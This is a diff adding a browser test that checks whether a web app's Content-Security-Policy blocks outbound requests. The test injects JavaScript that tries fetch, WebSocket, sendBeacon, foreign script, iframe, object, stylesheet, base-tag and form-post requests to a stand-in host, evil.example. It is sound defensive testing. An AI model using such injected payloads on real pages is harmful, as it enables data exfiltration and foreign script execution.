@@ -107,6 +107,49 @@ def judged(page: Page, heard: Heard, address: str, path: str) -> None:
     expect(page.get_by_test_id("stAlertContentError")).to_have_count(0)
 
 
+TRIED = """
+async () => {
+  window.blocked = new Set();
+  addEventListener("securitypolicyviolation", (event) => window.blocked.add(event.effectiveDirective));
+  const added = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
+  const out = "http://evil.example/x";
+  await fetch(out).catch(() => {});
+  try { new WebSocket("ws://evil.example/x"); } catch {}
+  navigator.sendBeacon(out);
+  added("img", {src: out});
+  added("script", {src: out});
+  added("script", {textContent: "window.foreignScript = true"});
+  added("iframe", {src: out});
+  added("object", {data: out});
+  added("link", {rel: "stylesheet", href: out});
+  document.head.append(Object.assign(document.createElement("base"), {href: "http://evil.example/"}));
+  const form = Object.assign(document.createElement("form"), {action: out, method: "post"});
+  document.body.append(form);
+  form.submit();
+}
+"""
+BLOCKED = {
+    "base-uri",
+    "connect-src",
+    "form-action",
+    "frame-src",
+    "img-src",
+    "object-src",
+    "script-src-elem",
+    "style-src-elem",
+}
+
+
+def test_what_would_leave_the_machine_is_refused_by_the_browser(page: Page, server: str, heard: Heard):
+    open_page(page, server, "/sources-and-method")
+    page.evaluate(TRIED)
+    page.wait_for_function("(all) => all.every((each) => window.blocked.has(each))", arg=sorted(BLOCKED))
+    assert page.evaluate("document.baseURI").startswith(server)
+    assert not page.evaluate("Boolean(window.foreignScript)")
+    # The browser tells of a request that it then refuses; none got an answer, and no name but one is found here.
+    assert [line for line in heard.wrong if line.startswith("failed") and "csp" not in line.lower()] == []
+
+
 @pytest.mark.parametrize("path", PAGES)
 def test_a_page_asks_its_own_host_only_and_gets_all_of_it(page: Page, server: str, heard: Heard, path: str):
     judged(page, heard, server, path)
